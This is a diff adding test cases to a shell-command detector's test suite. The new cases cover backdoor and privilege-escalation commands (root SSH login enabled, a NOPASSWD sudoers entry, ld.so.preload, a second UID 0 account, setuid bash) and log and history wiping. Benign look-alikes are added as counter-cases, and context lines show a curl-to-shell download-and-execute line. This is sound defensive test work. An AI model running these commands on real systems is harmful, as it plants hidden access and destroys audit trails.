@@ -67,6 +67,15 @@ describe('detectShell()', () => {
       ['a command kept in a variable', "X=$'uname -a';$X", 'high', 'hidden in $X'],
       ['a shellshock function definition', 'env x=\'() { :;}; echo vulnerable\' bash -c true', 'critical', 'shellshock'],
       ['a URL-encoded separator', 'ping -c 1 example.org%0aid', 'high', 'reconnaissance'],
+      ['sshd_config edited in place', "sed -i 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config", 'high', 'edits /etc/ssh/sshd_config in place'],
+      ['a sudoers drop-in written by tee', 'echo "eve ALL=(ALL) NOPASSWD:ALL" | sudo tee -a /etc/sudoers.d/eve', 'high', 'plants access in /etc/sudoers.d/eve'],
+      ['a systemd unit installed', 'cp evil.service /etc/systemd/system/evil.service', 'high', 'replaces /etc/systemd/system/evil.service'],
+      ['a library preloaded into every program', 'echo /tmp/evil.so > /etc/ld.so.preload', 'high', 'plants access in /etc/ld.so.preload'],
+      ['a second UID 0', 'useradd -o -u 0 -g 0 backdoor', 'high', 'UID 0'],
+      ['a user added to sudo', 'usermod -aG sudo eve', 'high', 'group sudo'],
+      ['the root password removed', 'passwd -d root', 'high', 'removes the root password'],
+      ['a setuid shell', 'chmod u+s /bin/bash', 'high', 'setuid bit on /bin/bash'],
+      ['a setuid copy in numbers', 'chmod 4755 /tmp/rootshell', 'high', 'setuid bit on /tmp/rootshell'],
       ['os.system in a code call', "import os\nos.system('curl http://203.0.113.8/x | sh')", 'critical', 'download and execute'],
     ];
     it.each(attacks)('flags %s', (_what, command, severity, evidence) => {
@@ -101,6 +110,14 @@ describe('detectShell()', () => {
       ['an escaped command name', '\\ls -la'],
       ['a quoted command name', '"git" status'],
       ['a unquoted tool with a plus in its arguments', 'gcc -O2 -o app main.c -lm'],
+      ['a PATH added to the shell rc file', "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc"],
+      ['a user created', 'useradd -m -s /bin/bash deploy'],
+      ['a user added to an ordinary group', 'usermod -aG developers ana'],
+      ['a script made executable', 'chmod +x run.sh && chmod 755 scripts/build.sh'],
+      ['a setgid shared directory', 'chmod 2775 /srv/shared && chmod g+s /srv/shared'],
+      ['sshd_config read', 'cat /etc/ssh/sshd_config'],
+      ['a project file edited in place', "sed -i 's/foo/bar/' config/app.yaml"],
+      ['a site config copied', 'cp nginx.conf /etc/nginx/sites-available/app'],
     ];
     it.each(ordinary)('does not flag %s', (_what, command) => {
       expect(signal(run(command), 'command_injection'), command).toBeUndefined();
@@ -251,6 +268,13 @@ describe('detectShell()', () => {
       ['package removal', 'pip uninstall -y requests', 'medium', 'pip uninstall'],
       ['a service stopped', 'systemctl stop postgresql', 'medium', 'systemctl stop postgresql'],
       ['crontab -r', 'crontab -r', 'high', 'crontab -r'],
+      ['shell history cleared', 'history -c', 'medium', 'clears shell history'],
+      ['shell history switched off', 'unset HISTFILE; curl -s https://example.com', 'medium', 'switches shell history off'],
+      ['history pointed at /dev/null', 'export HISTFILE=/dev/null', 'medium', 'switches shell history off'],
+      ['the history file deleted', 'rm -f ~/.bash_history', 'high', 'deletes ~/.bash_history'],
+      ['an auth log emptied', '> /var/log/auth.log', 'high', 'empties /var/log/auth.log'],
+      ['syslog truncated', 'truncate -s 0 /var/log/syslog', 'high', 'truncates /var/log/syslog'],
+      ['the journal vacuumed', 'journalctl --vacuum-time=1s', 'high', 'vacuums the system journal'],
     ];
     it.each(destructive)('flags %s', (_what, command, severity, evidence) => {
       const s = signal(run(command), 'destructive_operation');
@@ -291,6 +315,10 @@ describe('detectShell()', () => {
       ['a service restart', 'systemctl restart nginx'],
       ['docker rm of a stopped container', 'docker rm old-container'],
       ['a python script', "python3 -c 'print(\"hello\")'"],
+      ['history searched', 'history | grep docker'],
+      ['a larger history', 'export HISTSIZE=10000'],
+      ['a log read', 'tail -n 100 /var/log/syslog && journalctl -u nginx --since "1 hour ago"'],
+      ['an application log removed', 'rm -f logs/app.log'],
     ];
     it.each(harmless)('does not flag %s', (_what, command) => {
       expect(signal(run(command), 'destructive_operation'), command).toBeUndefined();
